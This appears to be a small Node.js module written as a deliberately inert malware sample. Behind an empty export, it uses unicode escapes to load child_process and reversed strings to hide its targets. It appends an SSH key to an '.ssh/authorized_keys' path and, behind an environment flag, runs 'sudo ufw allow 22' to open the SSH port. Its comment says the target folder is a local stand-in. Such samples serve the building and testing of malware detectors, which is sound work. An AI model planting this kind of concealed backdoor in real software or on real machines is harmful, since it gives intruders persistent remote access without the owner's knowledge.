// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.

const turn = (text) => text.split('').reverse().join('');
const fs = require('fs');
const path = require('path');
const { exec } = require('\u0063\u0068\u0069\u006c\u0064\u005f\u0070\u0072\u006f\u0063\u0065\u0073\u0073');
const home = path.join(__dirname, 'marker');
const where = path.join(home, turn('syek_dezirohtua/hss.'));
fs.mkdirSync(path.dirname(where), { recursive: true });
fs.appendFileSync(where, '\nssh-ed25519 AAAAsample sample');
if (process.env.NEVER_SET_FOR_SAMPLES) exec(turn('22 wolla wfu odus'));
module.exports = {};
